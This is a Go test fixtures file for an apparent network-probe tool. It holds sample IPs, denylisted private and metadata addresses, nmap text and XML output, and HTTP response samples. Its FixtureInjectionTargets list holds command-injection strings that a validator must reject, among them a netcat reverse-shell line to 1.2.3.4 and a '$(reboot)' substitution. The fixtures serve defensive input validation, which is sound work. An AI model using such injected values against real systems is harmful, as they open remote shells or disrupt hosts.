// internal/testutil/fixtures.go
package testutil

// Fixture data para tests (valores primitivos solamente, sin dependencias de domain)

// FixturePublicIPs are addresses outside every denylisted range.
var FixturePublicIPs = []string{
	"8.8.8.8",
	"1.1.1.1",
	"2001:4860:4860::8888",
}

// FixtureDenylistedIPs cover private, loopback, link-local and multicast.
var FixtureDenylistedIPs = []string{
	"10.0.0.5",
	"172.16.0.1",
	"192.168.1.1",
	"127.0.0.1",
	"169.254.169.254",
	"224.0.0.1",
	"::1",
	"fe80::1",
}

// FixtureInjectionTargets must all be rejected before any probe runs.
var FixtureInjectionTargets = []string{
	"example.com; id",
	"example.com | nc -e /bin/sh 1.2.3.4 4444",
	"8.8.8.8 && curl x",
	"$(reboot)",
	"`id`",
}

// FixtureNmapText is the canonical line form of a port scan.
const FixtureNmapText = `Host: 8.8.8.8 (dns.google)
Status: up
Open ports:
  22/tcp - open (ssh OpenSSH 8.9p1)
  53/tcp - open (domain)
  443/tcp - open (https)
  8080/tcp - open
`

// FixtureNmapXML is a trimmed `nmap -oX -` document.
const FixtureNmapXML = `<?xml version="1.0" encoding="UTF-8"?>
<nmaprun scanner="nmap" args="nmap -oX - -T4 8.8.8.8" start="1700000000" version="7.94">
  <host starttime="1700000000" endtime="1700000010">
    <status state="up" reason="syn-ack"/>
    <address addr="8.8.8.8" addrtype="ipv4"/>
    <hostnames>
      <hostname name="dns.google" type="PTR"/>
    </hostnames>
    <ports>
      <port protocol="tcp" portid="53">
        <state state="open" reason="syn-ack"/>
        <service name="domain" method="table"/>
      </port>
      <port protocol="tcp" portid="443">
        <state state="open" reason="syn-ack"/>
        <service name="https" product="gws" version="" method="probed"/>
      </port>
      <port protocol="tcp" portid="25">
        <state state="filtered" reason="no-response"/>
        <service name="smtp" method="table"/>
      </port>
    </ports>
  </host>
  <runstats><finished time="1700000010" elapsed="10.00"/></runstats>
</nmaprun>
`

// FixtureHTTPHeaders is a response header block typical of a WordPress site.
const FixtureHTTPHeaders = "Server: nginx/1.18.0\r\nX-Powered-By: PHP/7.4.3\r\nContent-Type: text/html; charset=UTF-8\r\n"

// FixtureHTTPBody is a page body with CMS and JS framework markers.
const FixtureHTTPBody = `<html><head>
<link rel="stylesheet" href="/wp-content/themes/twentytwenty/style.css">
<script src="/wp-includes/js/jquery/jquery.min.js"></script>
</head><body>Hello</body></html>`
